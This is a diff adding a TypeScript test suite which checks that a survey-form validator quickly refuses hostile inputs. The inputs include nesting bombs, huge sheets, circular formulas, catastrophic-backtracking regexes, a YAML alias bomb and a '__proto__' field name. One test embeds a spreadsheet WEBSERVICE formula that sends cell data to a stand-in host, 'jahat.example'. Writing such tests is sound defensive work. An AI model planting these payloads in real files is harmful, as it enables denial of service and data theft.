@@ -1,0 +1,136 @@
+import * as XLSX from '@e965/xlsx'
+import { describe, expect, test } from 'vitest'
+import { checkForm } from '../../src/flows/check.ts'
+import { settings } from './form-cast.ts'
+
+/** A form that anybody may send in: refused within a second or two, in one sentence, whatever it asks for. */
+
+type Cells = readonly (readonly (string | null)[])[]
+
+function workbook(sheets: Readonly<Record<string, Cells>>): Uint8Array {
+  const book = XLSX.utils.book_new()
+  for (const [name, rows] of Object.entries(sheets))
+    XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet(rows.map((row) => [...row])), name)
+  return new Uint8Array(XLSX.write(book, { type: 'buffer', bookType: 'xlsx', compression: true }) as Uint8Array)
+}
+
+const csv = (header: string, rows: string) => new TextEncoder().encode(`${header}\n${rows}`)
+const many = (n: number, row: (i: number) => string) => Array.from({ length: n }, (_, i) => row(i)).join('\n')
+
+const forms: Readonly<Record<string, readonly [form: Uint8Array | string, says: string]>> = {
+  'groups inside each other without end': [
+    csv(
+      'type,name,label',
+      `${many(9_000, (i) => `begin_group,g${i},`)}\ntext,a,A\n${many(9_000, () => 'end_group,,')}`,
+    ),
+    'groups stand inside each other',
+  ],
+  'repeats inside each other without end': [
+    csv(
+      'type,name,label',
+      `${many(9_000, (i) => `begin_repeat,g${i},`)}\ntext,a,A\n${many(9_000, () => 'end_repeat,,')}`,
+    ),
+    'groups stand inside each other',
+  ],
+  'groups that never end': [
+    csv(
+      'type,name',
+      many(15_000, (i) => `begin_group,g${i}`),
+    ),
+    'groups stand inside each other',
+  ],
+  'a hundred thousand questions': [
+    csv(
+      'type,name',
+      many(100_000, (i) => `text,a${i}`),
+    ),
+    'more than 20000 rows',
+  ],
+  'a hundred thousand choices': [
+    workbook({
+      survey: [
+        ['type', 'name'],
+        ['select_one k', 'a'],
+      ],
+      choices: [['list_name', 'name'], ...Array.from({ length: 100_000 }, (_, i) => ['k', `c${i}`])],
+    }),
+    'more than 20000 rows',
+  ],
+  'more questions than can be run': [
+    csv(
+      'type,name',
+      many(15_000, (i) => `text,a${i}`),
+    ),
+    'is the most that can be run',
+  ],
+  'a chain that bites its tail': [
+    csv(
+      'type,name,calculation',
+      many(500, (i) => `calculate,a${i},\${a${(i + 1) % 500}} + 1`),
+    ),
+    'in a circle',
+  ],
+  'brackets without end': [
+    `${settings}survey:\n  - { type: integer, name: a, label: A, constraint: "${'('.repeat(5_000)}1${')'.repeat(5_000)}" }\n`,
+    'levels of brackets',
+  ],
+  'an expression longer than a cell': [
+    `${settings}survey:\n  - { type: integer, name: a, label: A, constraint: "1 ${'+ 1 '.repeat(20_000)}" }\n`,
+    'longer than 32767 characters',
+  ],
+  'a pattern of a million states': [
+    `${settings}survey:\n  - { type: text, name: a, label: A, constraint: "regex(., '((a{900}){900}){900}')" }\n`,
+    'repeats too much',
+  ],
+  'aliases that multiply': [
+    `${settings}x: &a [${'1,'.repeat(9)}]\n${many(9, (i) => `x${i}: &a${i} [${`*a${i === 0 ? '' : i - 1},`.repeat(9)}]`)}\nsurvey: []\n`,
+    'Excessive alias count',
+  ],
+  'a name that is the root of every object': [csv('type,name', 'text,__proto__'), 'cannot be a name'],
+}
+
+describe('a form that means harm is refused in bounded time', () => {
+  test.each(Object.keys(forms))('%s', (name) => {
+    const [form, says] = forms[name]!
+    const began = performance.now()
+    const { findings, form: made } = checkForm(form)
+    expect(performance.now() - began).toBeLessThan(5_000)
+    const [first] = findings.filter(({ level }) => level === 'error')
+    expect(made).toBeUndefined()
+    expect(first?.message).toContain(says)
+    expect(first?.message.length).toBeLessThan(400)
+  })
+})
+
+describe('what a workbook computes is read as it stands', () => {
+  test('a formula is its last value, and never run or passed on', () => {
+    const book = XLSX.utils.book_new()
+    const sheet = XLSX.utils.aoa_to_sheet([
+      ['type', 'name', 'label'],
+      ['text', 'a', 'x'],
+    ])
+    sheet.C2 = { t: 's', v: 'Nama?', f: 'WEBSERVICE("http://jahat.example/?q="&A1)' }
+    XLSX.utils.book_append_sheet(book, sheet, 'survey')
+    const { source } = checkForm(new Uint8Array(XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array))
+    expect(source?.survey[0]?.label).toEqual({ id: 'Nama?' })
+    expect(JSON.stringify(source)).not.toContain('WEBSERVICE')
+  })
+
+  test('a pattern that takes others exponential time is judged at once', () => {
+    const { form } = checkForm(
+      `${settings}survey:\n  - { type: text, name: a, label: A, constraint: "regex(., '^(a+)+$')" }\n`,
+    )
+    const question = form?.questions[0]
+    const node = { name: 'a', parent: undefined, position: 1, text: () => `${'a'.repeat(5_000)}b`, children: () => [] }
+    const began = performance.now()
+    const value = question?.constraint?.evaluate({
+      node,
+      now: 0,
+      zone: 'UTC',
+      resolve: () => [],
+      instance: () => undefined,
+    })
+    expect(value).toEqual({ type: 'boolean', value: false })
+    expect(performance.now() - began).toBeLessThan(1_000)
+  })
+})
